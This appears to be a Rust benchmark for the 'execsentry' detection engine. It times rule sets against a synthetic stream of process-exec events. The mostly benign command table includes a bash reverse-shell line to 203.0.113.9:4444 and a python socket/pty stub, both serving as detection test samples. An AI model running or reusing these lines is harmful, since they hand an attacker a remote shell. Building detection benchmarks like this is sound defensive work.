//! Whole rule sets on one core: a realistic mixed stream of typed `ProcessEvent`s through
//! `RuleSet::evaluate_with_state` (single-event rules, sequences and samples, state included),
//! against baselines measured in the same run.
//!
//! - `ruleset/seed_only`: the built-in seed rule alone — the floor of dispatch and one rule.
//! - `ruleset/linux_all`: every rule of detection-rules `rules/linux` (`DETECTION_RULES_DIR`,
//!   default `/work/detection-rules/rules`), all stateful rules running.
//! - `ruleset/linux_all_process_source`: the same, with the state told that the source makes
//!   only `process` events (what `execsentry run` does): sequences that need network or file
//!   events are not run.
//!
//! The stream: 4096 execs — mostly ordinary commands from shells, cron, systemd and sshd, some
//! web-server children, a few shells with network redirections — each with its own pid and
//! entity id, so the sequences keyed by entity id see new keys all the time.

use std::collections::HashMap;
use std::hint::black_box;
use std::path::PathBuf;
use std::sync::Arc;

use criterion::{criterion_group, criterion_main, BatchSize, Criterion, Throughput};
use execsentry::eql::Options;
use execsentry::event::{Action, HostInfo, Ids, ProcessEvent, ProcessInfo, SourceFacts, Text};
use execsentry::rules::load::load_path;
use execsentry::rules::{load_builtin, RuleSet};

/// Deterministic pseudo-random numbers (xorshift64*).
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
}

const PARENTS: &[(&str, &[&str])] = &[
    ("/usr/bin/bash", &["-bash"]),
    ("/usr/sbin/sshd", &["sshd:", "dev@pts/0"]),
    ("/usr/sbin/cron", &["/usr/sbin/cron", "-f"]),
    ("/usr/lib/systemd/systemd", &["/sbin/init"]),
    ("/usr/bin/python3.11", &["python3", "/opt/app/worker.py"]),
    ("/usr/sbin/nginx", &["nginx: worker process"]),
    ("/usr/sbin/php-fpm8.2", &["php-fpm: pool www"]),
    (
        "/usr/bin/containerd-shim-runc-v2",
        &["containerd-shim-runc-v2", "-namespace", "moby"],
    ),
];

/// (weight, executable, argv).
const COMMANDS: &[(u32, &str, &[&str])] = &[
    (30, "/usr/bin/ls", &["ls", "--color=auto", "-la"]),
    (20, "/usr/bin/git", &["git", "status", "--porcelain"]),
    (15, "/usr/bin/grep", &["grep", "-rn", "TODO", "src/"]),
    (15, "/usr/bin/cat", &["cat", "/etc/os-release"]),
    (
        10,
        "/usr/bin/python3.11",
        &["python3", "-m", "pytest", "-q"],
    ),
    (10, "/usr/bin/sed", &["sed", "-i", "s/a/b/", "x.conf"]),
    (10, "/usr/bin/find", &["find", ".", "-name", "*.rs"]),
    (8, "/usr/bin/ps", &["ps", "aux"]),
    (
        8,
        "/usr/bin/systemctl",
        &["systemctl", "is-active", "nginx"],
    ),
    (
        8,
        "/usr/bin/curl",
        &["curl", "-sS", "https://example.com/health"],
    ),
    (6, "/usr/bin/make", &["make", "-j8"]),
    (6, "/usr/bin/gcc", &["gcc", "-O2", "-c", "main.c"]),
    (6, "/usr/bin/docker", &["docker", "ps", "-a"]),
    (5, "/usr/bin/ssh", &["ssh", "deploy@10.0.0.5", "uptime"]),
    (5, "/usr/bin/tar", &["tar", "czf", "backup.tgz", "/srv"]),
    (5, "/usr/bin/id", &["id", "-u"]),
    (5, "/usr/bin/uname", &["uname", "-a"]),
    (5, "/usr/bin/whoami", &["whoami"]),
    (
        4,
        "/usr/bin/bash",
        &["bash", "-c", "make && ./run-tests.sh"],
    ),
    (
        4,
        "/usr/bin/sh",
        &["sh", "-c", "run-parts /etc/update-motd.d"],
    ),
    (3, "/usr/bin/dash", &["dash", "/etc/cron.daily/logrotate"]),
    (3, "/usr/bin/sudo", &["sudo", "-n", "true"]),
    (3, "/usr/bin/chmod", &["chmod", "+x", "/tmp/build.sh"]),
    (
        3,
        "/usr/bin/wget",
        &["wget", "-q", "https://example.com/a.tgz"],
    ),
    (2, "/usr/bin/crontab", &["crontab", "-l"]),
    (2, "/usr/bin/base64", &["base64", "-d", "blob.b64"]),
    (
        2,
        "/usr/bin/openssl",
        &["openssl", "s_client", "-connect", "example.com:443"],
    ),
    (2, "/usr/bin/nc", &["nc", "-z", "10.0.0.5", "22"]),
    (
        1,
        "/usr/bin/bash",
        &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"],
    ),
    (
        1,
        "/usr/bin/python3.11",
        &["python3", "-c", "import socket,os,pty;s=socket.socket()"],
    ),
];

/// What the sensor's normalizer shares between events (`text_cache`, `users::IdsCache`): one
/// credential set, one text per distinct path or name. Arguments, command lines and entity ids
/// are each event's own, as they are live.
struct Shared {
    ids: Arc<Ids>,
    texts: HashMap<String, Text>,
}

impl Shared {
    fn text(&mut self, s: &str) -> Text {
        self.texts
            .entry(s.to_owned())
            .or_insert_with(|| s.into())
            .clone()
    }
}

fn process(
    shared: &mut Shared,
    pid: u32,
    ppid: u32,
    exe: &str,
    args: &[&str],
    entity: u64,
) -> ProcessInfo {
    let mut p = ProcessInfo {
        pid,
        ppid,
        entity_id: format!("{entity:016x}"),
        executable: shared.text(exe),
        args: args.iter().map(|s| s.to_string()).collect(),
        working_directory: Some(shared.text("/home/dev/src")),
        ids: Arc::clone(&shared.ids),
        start_ns: Some(0),
        ..Default::default()
    };
    p.derive_names();
    p.name = shared.text(&p.name);
    p
}

/// `n` execs, 10 ms apart, each with its own pid and entity id.
fn stream(n: usize) -> Vec<ProcessEvent> {
    let host = Arc::new(HostInfo {
        name: "build-7".into(),
        hostname: "build-7".into(),
        id: Some("9f0c6a1e2b3d4c5e".into()),
        os_type: "linux".into(),
        os_family: Some("debian".into()),
        ..Default::default()
    });
    let mut shared = Shared {
        ids: Arc::new(Ids {
            user_id: "1000".into(),
            user_name: Some("dev".into()),
            real_user_id: "1000".into(),
            group_id: "1000".into(),
            real_group_id: "1000".into(),
            ..Default::default()
        }),
        texts: HashMap::new(),
    };
    let parents: Vec<Arc<ProcessInfo>> = PARENTS
        .iter()
        .enumerate()
        .map(|(i, (exe, args))| {
            Arc::new(process(
                &mut shared,
                100 + i as u32,
                1,
                exe,
                args,
                1 + i as u64,
            ))
        })
        .collect();
    let total: u32 = COMMANDS.iter().map(|c| c.0).sum();
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    (0..n)
        .map(|i| {
            let mut w = (rng.next() % u64::from(total)) as u32;
            let (_, exe, args) = COMMANDS
                .iter()
                .find(|c| {
                    if w < c.0 {
                        true
                    } else {
                        w -= c.0;
                        false
                    }
                })
                .expect("weights add up");
            let parent = &parents[rng.below(parents.len())];
            let pid = 10_000 + i as u32;
            ProcessEvent {
                timestamp_ns: 1_800_000_000_000_000_000 + i as i64 * 10_000_000,
                sequence: i as u64,
                action: Action::Exec,
                process: Arc::new(process(
                    &mut shared,
                    pid,
                    parent.pid,
                    exe,
                    args,
                    1_000 + i as u64,
                )),
                parent: Some(Arc::clone(parent)),
                host: Arc::clone(&host),
                source: SourceFacts::Audit {
                    session: Some(shared.text("3")),
                    audit_user_id: Some(shared.text("1000")),
                    key: Some(shared.text("execsentry")),
                    syscall: "execve",
                    failed: false,
                },
            }
        })
        .collect()
}

fn linux_rules() -> Option<RuleSet> {
    let dir = std::env::var_os("DETECTION_RULES_DIR")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from("/work/detection-rules/rules"));
    let reports = load_path(&dir.join("linux"), &Options::default()).ok()?;
    let (set, _) = RuleSet::from_reports(reports);
    (!set.is_empty()).then_some(set)
}

fn ruleset(c: &mut Criterion) {
    let events = stream(4096);
    let (seed, _) = RuleSet::from_reports(load_builtin(&Options::default()));
    let mut g = c.benchmark_group("ruleset");
    g.throughput(Throughput::Elements(events.len() as u64));
    let mut run = |name: &str, set: &RuleSet, process_only: bool| {
        // Event time only moves forward, so every iteration starts from fresh state (made
        // outside the timed part).
        let fresh = || {
            let mut state = set.new_state();
            if process_only {
                state.only_categories(set, &["process"]);
            }
            state
        };
        let mut state = fresh();
        let mut hits = 0usize;
        for e in &events {
            set.evaluate_with_state(e, &mut state, |_, _| hits += 1);
        }
        let st = state.stats();
        eprintln!(
            "{name}: {} rules ({} stateful; {:?} single-event/stateful reached through a literal index), {hits} results \
             on {} events; state at the end: {} partial matches, {} keys, {} evicted, {} expired",
            set.len(),
            set.stateful_count(),
            set.indexed_count(),
            events.len(),
            st.pending,
            st.keys,
            st.evicted_pending,
            st.expired
        );
        g.bench_function(name, |b| {
            b.iter_batched_ref(
                fresh,
                |state| {
                    let mut n = 0usize;
                    for e in &events {
                        set.evaluate_with_state(black_box(e), state, |_, _| n += 1);
                    }
                    n
                },
                BatchSize::LargeInput,
            )
        });
    };
    run("seed_only", &seed, false);
    match linux_rules() {
        Some(linux) => {
            run("linux_all", &linux, false);
            run("linux_all_process_source", &linux, true);
        }
        None => eprintln!("no detection-rules checkout; only the baseline ran"),
    }
    g.finish();
}

criterion_group!(benches, ruleset);
criterion_main!(benches);
